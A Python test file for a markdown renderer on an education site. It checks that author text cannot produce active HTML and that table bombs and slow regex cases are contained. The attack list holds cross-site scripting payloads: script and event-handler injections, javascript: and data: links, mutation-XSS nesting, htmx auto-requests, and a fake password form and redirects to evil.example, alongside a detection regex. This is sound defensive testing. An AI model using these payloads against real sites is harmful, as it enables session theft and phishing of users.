"""What authors write becomes HTML that cannot act."""

import re
from typing import ClassVar

import pytest
from hypothesis import given
from hypothesis import strategies as st

from educrowd.core.markdown import MOST_CELLS, ProtocolBefore, render

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a href='javascript:alert(1)'>x</a></svg>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](vbscript:alert(1))",
    "<div hx-get=/logout hx-trigger=load>x</div>",
    "<div data-hx-post=/pledges data-hx-trigger=load>x</div>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<iframe src=//evil.example></iframe>",
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<p class=dialog id=studio>x</p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '```py" onmouseover="alert(1)\nx\n```',
]
ACTIVE = re.compile(
    r"""<(script|style|iframe|form|input|button|base|meta|svg|math|object|embed|link)\b"""
    r"""|<[^>]*\s(on\w+|hx-[\w-]+|data-[\w-]+|style|srcset|formaction)\s*="""
    r"""|<[^>]*\s(href|src)\s*=\s*["']?\s*(javascript|data|vbscript):""",
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_mallory_cannot_smuggle_in_anything_that_acts(attack):
    html = render(f"Dear reader,\n\n{attack}\n\nyours, Mallory")
    assert not ACTIVE.search(html)
    assert 'class="dialog"' not in html and 'id="studio"' not in html
    assert "Dear reader," in html


@given(
    st.lists(
        st.sampled_from(
            [
                *ATTACKS,
                "# Title",
                "**bold**",
                "> ",
                "`",
                "<",
                ">",
                '"',
                "\n\n",
                "| a |",
                "&#x",
            ]
        )
    )
)
def test_nor_any_mixture_of_attacks(pieces):
    assert not ACTIVE.search(render(" ".join(pieces)))


def test_ada_writes_a_lesson_with_code_tables_and_notes():
    html = render(
        "A note.[^1]\n\n```python\nprint(1 < 2)\n```\n\n| star | magnitude |\n|---|--:|\n| Vega | 0.03 |\n\n[^1]: Here."
    )
    assert '<code class="language-python">print(1 &lt; 2)\n</code>' in html
    assert '<td align="right">0.03</td>' in html
    assert 'href="#fn1"' in html and 'id="fn1"' in html


def test_headings_begin_below_the_pages_own_title():
    assert render("# Stars\n\n## Vega") == "<h2>Stars</h2>\n<h3>Vega</h3>\n"
    assert render("### Stars\n\n#### Vega") == "<h2>Stars</h2>\n<h3>Vega</h3>\n"
    assert "<h1" not in render("<h1>Stars</h1>")


def test_plain_addresses_become_links_and_images_load_late():
    assert '<a href="https://example.org/a?b=c&amp;d=e" rel="noopener">' in render("See https://example.org/a?b=c&d=e.")
    assert '<img src="/files/vega.jpg" alt="Vega"' in render("![Vega](/files/vega.jpg)")
    assert 'loading="lazy"' in render("![Vega](/files/vega.jpg)")


def test_long_code_can_be_scrolled_by_keyboard():
    assert '<pre tabindex="0">' in render("    one very long line")
    assert '<table tabindex="0">' in render("| a | b |\n|---|---|\n| 1 | 2 |\n")


def test_a_colon_costs_the_same_however_long_its_paragraph_is(monkeypatch):
    class Spy:
        lengths: ClassVar[list[int]] = []

        def search(self, text):
            self.lengths.append(len(text))
            return pattern.search(text)

    pattern = ProtocolBefore.pattern
    monkeypatch.setattr(ProtocolBefore, "pattern", Spy())
    assert 'href="https://a.example"' in render("one: two; " * 500 + "https://a.example")
    assert len(Spy.lengths) > 500 and max(Spy.lengths) < 10


def table_of(columns: int, rows: int, row: str = "") -> str:
    full = "a|" * columns + "\n"
    return full + "-|" * columns + "\n" + (row or full) * rows + "\n"


def cells(html: str) -> int:
    return html.count("<td") + html.count("<th>")


def test_tables_of_few_letters_make_no_long_page():
    bomb = table_of(256, 254, "a\n")
    for text in (bomb, bomb * 3, table_of(20, 20, "a\n") * 40, table_of(200, 200), f"- {bomb}\n\n> {bomb}"):
        html = render(text)
        assert cells(html) <= min(MOST_CELLS, len(text) + 100) and len(html) < 20 * len(text)
        assert "a|a|" in html, "what is no table stays as it was written"
    long = table_of(10, 900)
    assert cells(render(f"{long}And\n\n{table_of(2, 3)}")) == 9_018
    assert cells(render(f"{long}{long}{table_of(2, 3)}")) == 9_010
    sparse = render("| day | said |\n|---|---|\n" + "| 1 |\n" * 9)
    assert sparse.count("<td></td>") == 9 and "<table" not in render(bomb)
